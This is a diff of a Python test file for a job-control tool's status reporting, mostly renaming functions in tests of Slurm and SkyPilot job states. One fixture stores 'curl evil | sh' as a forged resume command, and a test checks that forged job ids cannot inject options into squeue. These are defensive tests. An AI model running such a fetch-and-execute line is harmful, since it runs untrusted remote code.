@@ -81,7 +81,7 @@ def node(**keys: object) -> str:
 
 
 def lines(engine: Engine, run: Run) -> list[str]:
-    return status._format_report(status.run_as_json(engine, run), "logs in")
+    return status._format_report(status.run_to_json_object(engine, run), "logs in")
 
 
 def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
@@ -173,7 +173,7 @@ def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
 def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
     run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
     job = make_job(tmp_path)
-    assert status.run_as_json(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
+    assert status.run_to_json_object(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
 
 
 # ---- values of files that somebody else may have written
@@ -255,14 +255,14 @@ def test_a_slurm_job_is_one_of_these(
     tmp_path: Path, printed: str, record: str, more: dict[str, str], text: str
 ) -> None:
     run, engine = make_run(tmp_path, state__job_0=f"job_id=7\n{record}", **more), slurm(tmp_path, printed)
-    engine.prepare([run])
+    engine.query_runs([run])
     assert engine.state(run).text == text
 
 
 def test_slurm_that_does_not_answer_leaves_the_state_unknown(tmp_path: Path) -> None:
     run = make_run(tmp_path, state__job_0="job_id=7\n")
     engine = slurm(tmp_path, errors="slurm_load_jobs error: Unable to contact slurm controller", code=1)
-    engine.prepare([run])
+    engine.query_runs([run])
     assert engine.state(run).text == "unknown, because Slurm does not respond: Unable to contact slurm controller"
     assert engine.state(run).is_live
 
@@ -271,7 +271,7 @@ def test_slurm_that_does_not_answer_leaves_the_state_unknown(tmp_path: Path) -> 
 def test_squeue_gets_no_option_from_a_record(tmp_path: Path, forged: str) -> None:
     run, engine = make_run(tmp_path, state__job_0=f"job_id={forged}\n"), slurm(tmp_path)
     engine.reply = lambda words: pytest.fail(f"asked {words}")
-    engine.prepare([run])
+    engine.query_runs([run])
     assert engine.state(run).name == "failed"
 
 
@@ -458,7 +458,7 @@ def test_a_skypilot_job_is_one_of_these(tmp_path: Path, said: str, text: str) ->
     assert state.text.startswith(text)
     if said.startswith("FAILED"):
         assert engine.reason_line(run, state) == "node 1 failed first: rank 3: bad data (exit 65)"
-    assert list(engine.cost()) == ["cluster c has been deleted and no longer costs anything"]
+    assert list(engine.machine_cost_lines()) == ["cluster c has been deleted and no longer costs anything"]
 
 
 # ---- which run
@@ -533,6 +533,6 @@ def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
 def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
     page = (RUNTIME.parent / "docs/reference/status.md").read_text()
     run = make_run(tmp_path, state__node_00=node())
-    report = status.run_as_json(Engine(make_job(tmp_path)), run)
+    report = status.run_to_json_object(Engine(make_job(tmp_path)), run)
     keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point"}
     assert not [key for key in keys if f"`{key}`" not in page]
